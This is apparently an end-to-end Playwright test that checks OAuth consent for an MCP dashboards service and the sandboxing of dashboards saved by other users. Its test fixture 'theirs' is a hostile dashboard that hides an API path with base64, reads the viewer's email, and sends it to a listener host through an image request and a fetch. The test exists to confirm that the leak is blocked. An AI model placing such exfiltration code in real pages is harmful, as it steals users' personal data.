import { expect, test, type APIRequestContext, type Browser } from "@playwright/test";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { UnauthorizedError, type OAuthClientProvider } from "@modelcontextprotocol/sdk/client/auth.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import type { OAuthClientInformationMixed, OAuthClientMetadata, OAuthTokens } from "@modelcontextprotocol/sdk/shared/auth.js";
import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import { Client as ModernClient, StreamableHTTPClientTransport as ModernTransport, type OAuthClientProvider as ModernAuthProvider } from "@modelcontextprotocol/client";
import { expectNoSeriousViolations } from "./support/axe";
import { Canaries } from "./support/canary";
import { describeCounts, LoopbackListeners, reached, type ListenerTarget } from "./support/listeners";
import { openedLinks, openHost, showApp } from "./support/mcp-app-host.mjs";
import { ConsentGatePage } from "./support/consent";
import { SavedDashboardPage } from "./support/saved-page";
import { SignInPage } from "./support/pages";
import { peoplesChromium } from "./support/chromium";

// Saved dashboards over MCP with MCP authorization, on the production server. The official MCP
// SDK's own OAuth client finds the authorization server from the 401 the endpoint answers,
// registers, and sends a browser to the consent page, where a demo person signs in and approves
// in Chromium; its token then shows that person's saved dashboard inline, on their live data,
// through a host made of the MCP Apps SDK. Someone else's dashboard is drawn by the service on the
// viewer's data and shown inert, its code never running in the host, until the viewer trusts its
// author on the site.

// A person consents in the browser they have (e2e/support/chromium.ts), where the approval's
// redirect to the host's loopback address is the one people's browsers follow.
test.use({ launchOptions: peoplesChromium });

const MCP = "/dashboards/playground/mcp";
// Never listened on: the browser's visit to it is caught by routing, as a native app's loopback
// listener would catch it.
const REDIRECT = "http://127.0.0.1:45679/callback";

const textOf = (r: CallToolResult) => r.content.map((c) => (c.type === "text" ? c.text : "")).join("");

/** A client's OAuth state in memory, as a desktop MCP host keeps it on disk. */
class MemoryProvider implements OAuthClientProvider {
  info: OAuthClientInformationMixed | undefined;
  saved: OAuthTokens | undefined;
  verifier = "";
  authorizationUrl: URL | null = null;
  readonly redirectUrl = REDIRECT;
  readonly clientMetadata: OAuthClientMetadata = {
    client_name: "E2E MCP host",
    redirect_uris: [REDIRECT],
    token_endpoint_auth_method: "none",
    grant_types: ["authorization_code", "refresh_token"],
    response_types: ["code"],
  };
  state() {
    return "e2e-state";
  }
  clientInformation() {
    return this.info;
  }
  saveClientInformation(info: OAuthClientInformationMixed) {
    this.info = info;
  }
  tokens() {
    return this.saved;
  }
  saveTokens(tokens: OAuthTokens) {
    this.saved = tokens;
  }
  redirectToAuthorization(url: URL) {
    this.authorizationUrl = url;
  }
  saveCodeVerifier(verifier: string) {
    this.verifier = verifier;
  }
  codeVerifier() {
    return this.verifier;
  }
  invalidateCredentials(scope: "all" | "client" | "tokens" | "verifier" | "discovery") {
    if (scope === "all" || scope === "tokens") this.saved = undefined;
    if (scope === "all" || scope === "client") this.info = undefined;
    if (scope === "all" || scope === "verifier") this.verifier = "";
  }
}

/** The session's CSRF token, as the playground page embeds it for the person's own actions. */
async function csrfOf(request: APIRequestContext): Promise<string> {
  const html = await (await request.get("/dashboards/playground")).text();
  const csrf = /csrf\\?":\\?"([A-Za-z0-9_-]+)/.exec(html)?.[1];
  if (!csrf) throw new Error("no CSRF token on the playground page");
  return csrf;
}

/** Saves `html` into `email`'s space as that person does from our own pages; answers its path. */
async function saveAs(browser: Browser, baseURL: string, email: string, slug: string, html: string): Promise<{ handle: string; slug: string }> {
  const context = await browser.newContext({ baseURL });
  try {
    const page = await context.newPage();
    await new SignInPage(page).open("/account");
    await new SignInPage(page).signInAs(email);
    await page.waitForURL("**/account");
    const handle = email.split("@")[0]!;
    const res = await page.request.post(`/~/${handle}/${slug}`, {
      headers: { "content-type": "text/html", "x-csrf-token": await csrfOf(page.request), "sec-fetch-site": "same-origin", origin: new URL(baseURL).origin },
      data: html,
    });
    expect(res.status(), await res.text()).toBe(201);
    return { handle, slug };
  } finally {
    await context.close();
  }
}

/** Draws who the live /api/me says the viewer is. */
const own = `<!doctype html><html><head><meta charset="utf-8"><title>My inline board</title></head><body><p id="who">…</p>
<script>
const API = window.DASHBOARD_API_BASE || "/api";
fetch(API + "/me").then((r) => r.json()).then((me) => { document.getElementById("who").textContent = me.email; });
</script></body></html>`;

/** Someone else's: reads the viewer's /me, tries a path its code hides, and aims what it read at the listeners. */
const theirs = (leak: ListenerTarget) => `<!doctype html><html><head><meta charset="utf-8"><title>Their board</title></head><body>
<p id="got">waiting</p><p id="extra">waiting</p>
<script>
(async () => {
  const API = window.DASHBOARD_API_BASE || "/api";
  const res = await fetch(API + "/me");
  const me = res.ok ? await res.json() : { email: "status-" + res.status };
  document.getElementById("got").textContent = me.email;
  const extra = await fetch(API + atob("L21lL2Zhdm91cml0ZXM="));
  document.getElementById("extra").textContent = String(extra.status);
  const out = ${JSON.stringify(leak.httpOrigin)};
  new Image().src = out + "/leak?s=" + encodeURIComponent(me.email);
  fetch(out + "/fetch?s=" + encodeURIComponent(me.email), { mode: "no-cors" }).catch(() => {});
  document.documentElement.setAttribute("data-attempts", "made");
})();
</script></body></html>`;

test("an MCP client without a token gets the authorization challenge, and the draft tools stay public", async ({ request, baseURL }) => {
  const call = await request.post(MCP, {
    headers: { "content-type": "application/json", accept: "application/json, text/event-stream" },
    data: { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "show_dashboard", arguments: { handle: "csm", slug: "my-book" } } },
  });
  expect(call.status()).toBe(401);
  const challenge = call.headers()["www-authenticate"]!;
  const metadataUrl = /resource_metadata="([^"]+)"/.exec(challenge)?.[1];
  expect(metadataUrl).toBe(`${baseURL}/.well-known/oauth-protected-resource${MCP}`);
  expect(await call.json()).toMatchObject({ error: "unauthorized", hint: expect.any(String) });
  const metadata = await (await request.get(metadataUrl!)).json();
  expect(metadata).toMatchObject({ resource: `${baseURL}${MCP}`, authorization_servers: [baseURL] });
  const server = await (await request.get("/.well-known/oauth-authorization-server")).json();
  expect(server).toMatchObject({ issuer: baseURL, code_challenge_methods_supported: ["S256"], registration_endpoint: `${baseURL}/oauth/register` });

  const bad = await request.post(MCP, {
    headers: { "content-type": "application/json", authorization: "Bearer dd_at_forged" },
    data: { jsonrpc: "2.0", id: 1, method: "tools/list" },
  });
  expect(bad.status()).toBe(401);
  expect(bad.headers()["www-authenticate"]).toContain('error="invalid_token"');

  // The SDK's client without authorization: drafts work, show_dashboard is refused over HTTP.
  const client = new Client({ name: "e2e-no-auth", version: "1.0.0" });
  await client.connect(new StreamableHTTPClientTransport(new URL(MCP, baseURL)));
  try {
    const created = (await client.callTool({ name: "create_draft", arguments: { html: "<!doctype html><title>t</title><p>hi</p>" } })) as CallToolResult;
    expect(created.isError ?? false, textOf(created)).toBe(false);
    await expect(client.callTool({ name: "show_dashboard", arguments: { handle: "csm", slug: "my-book" } })).rejects.toMatchObject({ code: 401 });
  } finally {
    await client.close();
  }
});

// Someone else's dashboard is saved into csm's space, which the @csm-state chain owns (as the
// consent suite's are); the admin only allows it in the view, and disconnects the app at the end.
test("the SDK's OAuth client connects through the consent page; the viewer's dashboard renders inline on live data, someone else's is drawn by the service until the person trusts its author on the site", { tag: "@csm-state" }, async ({ browser, baseURL }) => {
  test.setTimeout(120_000);
  const stamp = Date.now().toString(36);
  const listeners = new LoopbackListeners();
  const canaries = new Canaries(browser, listeners);
  const leak = await listeners.target("mcp oauth");
  const mine = await saveAs(browser, baseURL!, "admin@demo.test", `inline-${stamp}`, own);
  const other = await saveAs(browser, baseURL!, "csm@demo.test", `shared-${stamp}`, theirs(leak));

  const provider = new MemoryProvider();
  const transport = new StreamableHTTPClientTransport(new URL(MCP, baseURL), { authProvider: provider });
  const client = new Client({ name: "e2e-oauth-host", version: "1.0.0" });
  const signInContext = await browser.newContext({ baseURL });
  const hostContext = await browser.newContext();
  try {
    await client.connect(transport);
    // The endpoint's 401 sends the SDK through discovery and registration to the authorization URL.
    await expect(client.callTool({ name: "show_dashboard", arguments: mine })).rejects.toBeInstanceOf(UnauthorizedError);
    const authorizationUrl = provider.authorizationUrl!;
    expect(authorizationUrl.pathname).toBe("/oauth/authorize");
    expect(authorizationUrl.searchParams.get("code_challenge_method")).toBe("S256");
    expect(authorizationUrl.searchParams.get("resource")).toBe(`${baseURL}${MCP}`);
    expect(provider.info?.client_id).toMatch(/^dd_client_/);

    // A person in a browser: signed out, so sign-in comes first, then the consent page.
    const page = await signInContext.newPage();
    let callback: URL | null = null;
    await page.route(`${REDIRECT}**`, (route) => {
      callback = new URL(route.request().url());
      return route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Done</title><p>You can close this window.</p>" });
    });
    await page.goto(authorizationUrl.href);
    await expect(page).toHaveURL(/\/signin\?next=/);
    await new SignInPage(page).signInAs("admin@demo.test");
    await expect(page.getByRole("heading", { level: 1 })).toContainText("Connect E2E MCP host to Dashboards?");
    await expect(page.getByTestId("oauth-account")).toHaveText("Avery Admin");
    await expect(page.getByTestId("oauth-redirect")).toHaveText(REDIRECT);
    // The page's policy keeps axe's script out: the same page, same session, in a context that ignores it.
    const axeContext = await browser.newContext({ baseURL, bypassCSP: true, storageState: await signInContext.storageState() });
    try {
      const axePage = await axeContext.newPage();
      await axePage.goto(page.url());
      await expect(axePage.getByTestId("oauth-approve")).toBeVisible();
      await expectNoSeriousViolations(axePage);
    } finally {
      await axeContext.close();
    }
    await page.getByRole("button", { name: "Approve" }).click();
    await expect.poll(() => callback?.href ?? null).not.toBeNull();
    const back = callback as unknown as URL;
    expect(back.searchParams.get("state")).toBe("e2e-state");
    expect(back.searchParams.get("iss")).toBe(baseURL);
    await transport.finishAuth(back.searchParams.get("code")!);
    expect(provider.saved?.access_token).toMatch(/^dd_at_/);

    // The same grant in a host on the v2 SDK, pinned to the 2026-07-28 revision: it discovers
    // the server and reads the person's dashboard and data per request, with no handshake.
    const modern = new ModernClient({ name: "e2e-oauth-host-v2", version: "2.0.0" }, { versionNegotiation: { mode: { pin: "2026-07-28" } } });
    await modern.connect(new ModernTransport(new URL(MCP, baseURL), { authProvider: provider as unknown as ModernAuthProvider }));
    try {
      expect(modern.getProtocolEra()).toBe("modern");
      expect((await modern.discover()).supportedVersions).toEqual(["2026-07-28"]);
      const modernShown = (await modern.callTool({ name: "show_dashboard", arguments: mine })) as CallToolResult;
      expect(modernShown.structuredContent).toMatchObject({ yours: true, live: "run", title: "My inline board" });
      const modernRead = (await modern.callTool({ name: "read_live_data", arguments: { ...mine, path: "/api/me" } })) as CallToolResult;
      expect(modernRead.structuredContent).toMatchObject({ status: 200, body: expect.stringContaining("admin@demo.test") });
    } finally {
      await modern.close();
    }

    // The viewer's own dashboard: at once, on their live data, through the App path.
    const shown = (await client.callTool({ name: "show_dashboard", arguments: mine })) as CallToolResult;
    expect(shown.isError ?? false, textOf(shown)).toBe(false);
    expect(shown.structuredContent).toMatchObject({ yours: true, live: "run", title: "My inline board" });
    const { tools } = await client.listTools();
    const uri = (tools.find((t) => t.name === "show_dashboard")?._meta as { ui?: { resourceUri?: string } }).ui?.resourceUri;
    expect(uri).toMatch(/^ui:\/\//);
    expect(tools.map((t) => t.name)).not.toContain("allow_dashboard");
    for (const name of ["read_dashboard", "read_live_data", "draw_dashboard"]) {
      expect((tools.find((t) => t.name === name)?._meta as { ui?: { visibility?: string[] } }).ui?.visibility, name).toEqual(["app"]);
    }
    const { contents } = await client.readResource({ uri: uri! });
    const viewHtml = (contents[0] as { text: string }).text;

    // The host page has no cookie of the service: whatever the view shows came with the token.
    const host = await hostContext.newPage();
    const relayed: string[] = [];
    await openHost(host, async (params) => {
      relayed.push(params.name);
      return client.callTool(params);
    });
    await showApp(host, viewHtml, shown);
    const inline = host.frameLocator("#app").frameLocator("iframe");
    await expect(inline.locator("#who")).toHaveText("admin@demo.test");
    expect(relayed).toContain("read_live_data");

    // Someone else's: its code never runs in the host. The view shows the service's drawing of it
    // on the admin's data, with no question, in a frame that may run nothing; "Open on Dashboards"
    // hands the person to its page on this site for it interactive.
    const asked = (await client.callTool({ name: "show_dashboard", arguments: other })) as CallToolResult;
    const siteUrl = `${baseURL}/~/csm/${other.slug}`;
    expect(asked.structuredContent).toMatchObject({ yours: false, live: "drawn", owner: { handle: "csm" }, reads: ["/me"], url: siteUrl });
    expect(asked._meta).toBeUndefined();
    expect(textOf(asked)).not.toContain("admin@demo.test");
    const second = await hostContext.newPage();
    const relayedSecond: string[] = [];
    await openHost(second, async (params) => {
      relayedSecond.push(params.name);
      return client.callTool(params);
    });
    await showApp(second, viewHtml, asked);
    const app = second.frameLocator("#app");
    await expect(app.locator("#drawn-notice")).toContainText("Drawn on your data by this site: the dashboard's own code did not run in your browser.");
    const drawnInline = app.frameLocator("#drawn-frame");
    await expect(drawnInline.locator("#got")).toHaveText("admin@demo.test", { timeout: 30_000 });
    // Held to the paths its code names, as everywhere.
    await expect(drawnInline.locator("#extra")).toHaveText("403");
    const drawnFrame = app.locator("#drawn-frame");
    await expect(drawnFrame).toHaveAttribute("sandbox", "");
    expect(await drawnFrame.getAttribute("srcdoc")).not.toMatch(/<script|\son[a-z]+=|javascript:|https?:\/\//i);
    expect(await drawnFrame.getAttribute("srcdoc")).toContain("http-equiv=\"Content-Security-Policy\"");
    // The view ran no frame of the dashboard's own and relayed none of its reads: only the drawing.
    await expect(app.locator("iframe")).toHaveCount(1);
    await expect(app.getByRole("button", { name: /allow|trust/i })).toHaveCount(0);
    expect(relayedSecond).toEqual(["draw_dashboard"]);
    await app.getByRole("button", { name: "Open on Dashboards" }).click();
    await expect.poll(() => openedLinks(second)).toEqual([siteUrl]);
    await canaries.send([leak]);
    expect(reached(listeners.counts("mcp oauth")), describeCounts(listeners.counts("mcp oauth"))).toBe(false);
    expect(relayedSecond).toEqual(["draw_dashboard"]);
    // Nothing the model could call instead of the view reads the data either.
    const direct = (await client.callTool({ name: "read_live_data", arguments: { ...other, path: "/api/me" } })) as CallToolResult;
    expect(direct.structuredContent).toMatchObject({ status: 403 });
    expect(((direct.structuredContent as { body: string }).body)).not.toContain("admin@demo.test");

    // The person decides on the site, as themselves: "Always trust csm" at the page the link opened.
    await page.goto(siteUrl);
    await new SavedDashboardPage(page).makeInteractive();
    await new ConsentGatePage(page).choice("Always trust csm").click();
    await expect(new SavedDashboardPage(page).dashboard().locator("#got")).toHaveText("admin@demo.test", { timeout: 15_000 });
    // From then on the host runs it too, held to the paths its code reads.
    const trusted = (await client.callTool({ name: "show_dashboard", arguments: other })) as CallToolResult;
    expect(trusted.structuredContent).toMatchObject({ yours: false, live: "run" });
    const third = await hostContext.newPage();
    const relayedThird: string[] = [];
    await openHost(third, async (params) => {
      relayedThird.push(params.name);
      return client.callTool(params);
    });
    await showApp(third, viewHtml, trusted);
    const theirsInline = third.frameLocator("#app").frameLocator("iframe");
    await expect(theirsInline.locator("#got")).toHaveText("admin@demo.test");
    await expect(theirsInline.locator("#extra")).toHaveText("403");
    await expect(theirsInline.locator("html")).toHaveAttribute("data-attempts", "made");
    expect(relayedThird).toEqual(expect.arrayContaining(["read_dashboard", "read_live_data"]));
    await canaries.send([leak]);
    expect(reached(listeners.counts("mcp oauth")), describeCounts(listeners.counts("mcp oauth"))).toBe(false);
    await page.goto("/account#trusted-authors");
    const trustList = page.getByTestId("trusted-authors");
    await expect(trustList.getByTestId("trusted-author").filter({ hasText: "/~/csm" })).toContainText("by you on this site");
    await trustList.getByRole("button", { name: "Stop trusting csm" }).click();
    await expect(trustList.getByTestId("trusted-author").filter({ hasText: "/~/csm" })).toHaveCount(0);

    // The person disconnects the app on their account page: its tokens stop at once, and the SDK
    // is sent back to authorization.
    await page.goto("/account#connected-apps");
    const apps = page.getByTestId("connected-apps");
    const row = apps.getByTestId("connected-app").filter({ hasText: "E2E MCP host" });
    await expect(row).toHaveCount(1);
    provider.authorizationUrl = null;
    await row.getByRole("button", { name: "Disconnect E2E MCP host" }).click();
    await expect(apps.getByTestId("connected-app").filter({ hasText: "E2E MCP host" })).toHaveCount(0);
    await expect(client.callTool({ name: "show_dashboard", arguments: mine })).rejects.toBeInstanceOf(UnauthorizedError);
    expect(provider.authorizationUrl).not.toBeNull();
  } finally {
    await client.close();
    await signInContext.close();
    await hostContext.close();
    await canaries.close();
    await listeners.close();
  }
});
